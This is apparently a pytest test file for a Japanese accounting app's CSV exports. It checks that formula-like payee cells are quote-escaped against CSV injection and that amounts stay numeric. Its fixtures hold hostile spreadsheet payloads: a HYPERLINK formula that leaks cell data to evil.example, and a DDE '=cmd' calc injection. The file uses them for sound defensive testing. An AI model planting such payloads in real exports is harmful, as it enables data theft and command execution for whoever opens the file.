"""Formula-safe exports (OWASP CSV injection): a text cell that a spreadsheet would run as a formula is
written with a leading `'`; amounts stay plain numbers. Each file is read back with the csv module."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest

from ushiro_desk.domain.company import CompanyProfile, EntityType
from ushiro_desk.domain.spreadsheet_cells import formula_safe
from ushiro_desk.reports.expense_exports import csvfile, journals, plain
from ushiro_desk.services import company
from ushiro_desk.services.expenses import exports
from ushiro_desk.services.store import Store

PAYEES = ('=HYPERLINK("http://evil.example/?leak="&A1,"詳細")', "+81 3 1234 5678 商店", "-2+3 商会", "@SUM(A1:A9)")
SAFE = tuple("'" + payee for payee in PAYEES)


@pytest.mark.parametrize(
    ("cell", "written"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("-1320", "-1320"), ("-0.5", "-0.5"), ("1320", "1320"), ("", ""), ("株式会社=A", "株式会社=A"), ("-", "'-")],
)
def test_formula_cells_get_a_quote_and_numbers_stay_numbers(cell: str, written: str) -> None:
    assert formula_safe(cell) == written


def test_the_csv_writer_neutralises_text_and_keeps_a_negative_amount_numeric() -> None:
    text = csvfile.render([csvfile.Row(("=cmd|' /C calc'!A0", "-1500", "\t=1"))], ("a", "b", "c"))
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["a", "b", "c"], ["'=cmd|' /C calc'!A0", "-1500", "'\t=1"]]


@pytest.fixture
def hostile(store: Store, record) -> dict[str, int]:  # type: ignore[no-untyped-def]
    company.save_profile(store, CompanyProfile(name="合同会社テスト", entity_type=EntityType.CORPORATION))
    return {payee: record(date=date(2026, 4, n + 1), payee=payee, amount=str(1000 + n), memo="@memo")
            for n, payee in enumerate(PAYEES)}


def read(path: Path, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode(encoding), newline="")))


@pytest.mark.parametrize(
    ("fmt", "encoding", "payee_column", "amount_column", "header"),
    [
        ("yayoi", "cp932", journals.YAYOI_COLUMNS.index("摘要"), journals.YAYOI_COLUMNS.index("借方金額"), False),
        ("freee", "cp932", journals.FREEE_COLUMNS.index("取引先"), journals.FREEE_COLUMNS.index("金額"), True),
        ("mf", "cp932", journals.MF_COLUMNS.index("借方取引先"), journals.MF_COLUMNS.index("借方金額(円)"), True),
        ("csv", "utf-8-sig", plain.PLAIN_COLUMNS.index("取引先"), plain.PLAIN_COLUMNS.index("金額(税込)"), True),
    ],
)
def test_every_accounting_export_neutralises_formula_payees(store: Store, hostile, tmp_path: Path, fmt: str, encoding: str,  # type: ignore[no-untyped-def]
                                                             payee_column: int, amount_column: int, header: bool) -> None:
    out = tmp_path / f"{fmt}.csv"
    exports.export(store, fmt, out)
    rows = read(out, encoding)[1 if header else 0:]
    cells = [row[payee_column] for row in rows]
    assert len(cells) == len(PAYEES)
    for cell, safe in zip(cells, SAFE):
        assert cell.startswith(safe)  # 弥生's 摘要 is the payee followed by the memo
    assert [row[amount_column] for row in rows] == ["1000", "1001", "1002", "1003"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row if not cell.lstrip("-").isdigit())


def test_the_audit_folders_index_neutralises_formula_payees(store: Store, hostile, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    exports.export(store, "audit", tmp_path / "audit")
    index = plain.read_index(tmp_path / "audit")
    assert [row["取引先"] for row in index] == list(SAFE)
    assert [row["金額"] for row in index] == ["1000", "1001", "1002", "1003"]
